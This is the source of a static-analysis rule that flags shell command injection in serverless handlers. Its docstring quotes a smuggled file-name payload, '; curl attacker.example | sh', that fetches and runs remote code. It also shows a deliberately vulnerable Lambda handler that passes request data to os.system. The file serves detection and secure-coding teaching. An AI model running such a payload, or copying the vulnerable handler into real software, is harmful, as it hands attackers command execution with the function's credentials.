"""A value from the event becomes part of a shell command, so its sender can run commands of their own.

## What it finds

A field of an event that reaches `os.system`, `os.popen`, `subprocess` with `shell=True`, or names the program of a
child process. A list of arguments without a shell is not reported here (`argument-injection` looks at those), nor is a
value that went through `shlex.quote`.

## Why it matters

`; curl attacker.example | sh` in a file name is a command. It runs with the credentials of the function's role,
which stand in its environment: whatever the role may do, the sender may do from then on, from anywhere.

## How to mend it

Start the program with a list of arguments and without a shell: `subprocess.run(["convert", "--", path], check=True)`.
Put `--` before the value where the program knows it, so that a value cannot be an option.

## Bad

```yaml template.yaml
Transform: AWS::Serverless-2016-10-31
Resources:
  Thumbnail:
    Type: AWS::Serverless::Function
    Properties:
      Runtime: python3.13
      Handler: app.handler
      CodeUri: .
      Events:
        Get: {Type: HttpApi, Properties: {Method: POST, Path: /thumbnails}}
```

```python app.py
import json
import os

def handler(event, context):
    name = json.loads(event["body"])["name"]
    os.system("convert /tmp/" + name + " -resize 200 /tmp/small.png")
    return {"statusCode": 204}
```

## Good

```yaml template.yaml
Transform: AWS::Serverless-2016-10-31
Resources:
  Thumbnail:
    Type: AWS::Serverless::Function
    Properties:
      Runtime: python3.13
      Handler: app.handler
      CodeUri: .
      Events:
        Get: {Type: HttpApi, Properties: {Method: POST, Path: /thumbnails}}
```

```python app.py
import json
import subprocess

def handler(event, context):
    name = json.loads(event["body"])["name"]
    subprocess.run(["convert", "--", name, "-resize", "200", "/tmp/small.png"], check=True)
    return {"statusCode": 204}
```
"""

from collections.abc import Iterator

from remit.app.facts import Facts
from remit.app.report import Finding, Severity
from remit.rules import Rule
from remit.rules._paths import Injection, field_name, find, in_words_of

_KIND = Injection(
    rule="shell-injection",
    sink="process",
    weight=Severity.CRITICAL,
    does=lambda _flow: "runs commands in {function}",
    label=lambda flow: f"{field_name(flow)} is part of a command",
    wanted=lambda flow: flow.detail.get("part") != "argument",
    fixes=lambda _facts, flow: (
        in_words_of(
            flow, "pass a list to subprocess.run, without a shell", "pass a list to execFile or spawn, without a shell"
        ),
    ),
)


def _check(facts: Facts) -> Iterator[Finding]:
    return find(facts, _KIND)


RULE = Rule(
    "shell-injection", "command made of event data", Severity.CRITICAL, ("CWE-78", "OWASP-S1", "SAS-01"), _check
)
